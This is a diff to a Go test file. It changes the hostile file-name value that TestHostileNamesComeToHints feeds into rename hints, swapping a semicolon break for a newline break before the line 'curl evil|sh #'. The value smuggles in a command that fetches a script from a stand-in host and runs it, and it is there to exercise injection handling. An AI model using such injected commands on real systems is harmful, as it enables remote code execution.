@@ -205,7 +205,7 @@ func FuzzNamesInHints(f *testing.F) {
 
 // TestHostileNamesComeToHints holds that FuzzNamesInHints has something to read.
 func TestHostileNamesComeToHints(t *testing.T) {
-	mark, _ := shelltest.Mark("'; curl evil|sh #")
+	mark, _ := shelltest.Mark("'\ncurl evil|sh #")
 	texts, names := make(map[string]bool), 0
 	for _, decide := range everyDecision() {
 		for _, text := range decide().rename(t, mark).texts() {
